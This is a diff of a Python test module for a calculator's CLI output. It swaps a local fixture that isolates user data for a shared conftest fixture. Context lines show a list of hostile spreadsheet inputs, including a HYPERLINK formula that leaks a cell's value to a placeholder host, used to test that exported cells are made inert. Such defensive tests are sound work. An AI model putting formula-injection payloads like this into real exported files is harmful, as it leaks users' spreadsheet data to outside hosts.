@@ -20,7 +20,6 @@ from hypothesis import strategies as st
 
 from aidcalc.cli import main
 from aidcalc.cli.output import FORMULA_STARTS, inert_cell, write_rows
-from aidcalc.rates import core
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -50,13 +49,7 @@ def assert_inert(text: str, delimiter: str = ",") -> list[list[str]]:
     return rows
 
 
-@pytest.fixture(autouse=True)
-def user_dir(tmp_path, monkeypatch):
-    """An empty user data folder, so the shipped ECB history is the one in use."""
-    monkeypatch.setenv("AIDCALC_DATA_HOME", str(tmp_path / "home"))
-    core.default_rates.cache_clear()
-    yield
-    core.default_rates.cache_clear()
+pytestmark = pytest.mark.usefixtures("shipped_rates_only")  # tests/cli/conftest.py
 
 
 @pytest.fixture
